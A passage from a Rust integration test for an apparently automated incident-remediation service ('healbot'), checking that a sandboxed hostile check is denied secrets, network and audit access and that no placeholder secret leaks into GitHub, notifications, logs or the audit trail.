        "state_dir: state\ngithub:\n  app_id: {APP_ID}\n  private_key_file: {key}\n  \
         api_url: {github}\nprometheus:\n  url: {prometheus}\n  step_seconds: 1\nlogs:\n  files:\n    \
         payment-service: [payment-service.log]\ncanary_wait_seconds: 1\nrepositories: [{REPO}]\n\
         catalog: {CATALOG}\nnotify:\n  pagerduty: {{api_url: \"http://{sink}/v2/enqueue\"}}\n",
        key = test_key_path().display(),
        github = fake.url(),
        prometheus = prometheus.url,
    );
    let mut env = env_secrets();
    env.push(("HEALBOT_SLACK_WEBHOOK_URL", slack_url.clone()));
    let serve = Serve::start(root.path(), &yaml, &env);
    assert_eq!(serve.healthz().await["sandbox"], "bwrap");

    let alert = serde_json::json!({
        "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
        "status": "firing", "receiver": "healbot",
        "groupLabels": {"service": "payment-service"},
        "commonLabels": {"service": "payment-service", "severity": "critical"},
        "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
        "alerts": [{
            "status": "firing",
            "labels": {"alertname": "HighErrorRate", "service": "payment-service", "severity": "critical"},
            "annotations": {"summary": "5xx ratio 16% for 2 minutes"},
            "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "http://prometheus:9090/graph", "fingerprint": "5f1e2d3c4b5a6978"
        }]
    });
    let sent = healbot::http_client::client()
        .post(format!(
            "http://127.0.0.1:{}/webhooks/alertmanager",
            serve.port
        ))
        .bearer_auth(ENV_SECRETS[3].1)
        .json(&alert)
        .send()
        .await
        .unwrap();
    assert_eq!(sent.status(), 202);
    let audit_path = state.join("audit.jsonl");
    let started = Instant::now();
    let audit = loop {
        let audit = std::fs::read_to_string(&audit_path).unwrap_or_default();
        if audit.contains("no fix passed validation") {
            break audit;
        }
        assert!(
            started.elapsed() < Duration::from_secs(120),
            "not escalated:\n{}",
            serve.log()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert!(
        audit.contains("hostile check done"),
        "the check ran: {audit}"
    );
    assert!(audit.contains("secrets: [][][][]") && audit.contains("key: denied"));
    assert!(audit.contains("network: refused") && audit.contains("audit: denied"));
    // A signed delivery with the secret from the environment is still accepted: serve read
    // it before taking it out.
    let body = br#"{"zen":"Keep it logically awesome.","hook_id":1}"#;
    let signed = healbot::http_client::client()
        .post(format!("http://127.0.0.1:{}/webhooks/github", serve.port))
        .header("X-GitHub-Event", "ping")
        .header("X-GitHub-Delivery", "sandbox-ping-1")
        .header(
            "X-Hub-Signature-256",
            healbot::server::signature::sign(ENV_SECRETS[0].1.as_bytes(), body),
        )
        .header("content-type", "application/json")
        .body(body.to_vec())
        .send()
        .await
        .unwrap();
    assert!(signed.status().is_success(), "{}", signed.status());
    // Notifications are sent after the escalation is recorded.
    tokio::time::sleep(Duration::from_millis(500)).await;

    let github = sent_to_github(&fake);
    let posted = posted.lock().unwrap().clone();
    // Slack's URL came from the environment: the posts went to its path.
    assert!(posted
        .iter()
        .any(|s| s.target == "/services/T0000/B0000/slackpathsecret42"));
    let notifications: String = posted.iter().map(|s| format!("{}\n", s.body)).collect();
    assert!(
        notifications.contains("hostile check done"),
        "{notifications}"
    );
    // PagerDuty's own key goes to PagerDuty (the Events API wants it in the body); nowhere else.
    let routing_key = format!("\"routing_key\":\"{}\"", ENV_SECRETS[2].1);
    assert!(notifications.contains(&routing_key));
    let notifications = notifications.replace(&routing_key, "");
    let log = serve.log();
    let mut secrets: Vec<String> = ENV_SECRETS.iter().map(|(_, v)| v.to_string()).collect();
    secrets.push("slackpathsecret42".into());
    secrets.push("FAKEKEYBODY".into());
    for (what, text) in [
        ("GitHub", &github),
        ("the audit log", &audit),
        ("the notifications", &notifications),
        ("serve's log", &log),
    ] {
        for secret in &secrets {
            assert!(!text.contains(secret.as_str()), "{secret} reached {what}");
        }
    }
    assert!(!audit.contains("forged"));
    assert!(healbot::audit::verify::verify_file(&audit_path)
        .unwrap()
        .holds());
    assert_eq!(listener.received(), None);
}

/// Waits until Prometheus holds a few samples of the exporter's traffic (what the root-cause
/// ranking reads).
async fn scraped(url: &str) {
    let client =
        healbot::signals::prometheus::PrometheusClient::new(url, Duration::from_secs(5)).unwrap();
    let started = Instant::now();
    loop {
        let q = r#"min(count_over_time(http_requests_total{service="payment-service"}[1m]))"#;
        let samples = client
            .query(q, None)
            .await
            .ok()
            .and_then(|r| r.first_value());
        if samples.is_some_and(|n| n >= 4.0) {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no traffic scraped"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}
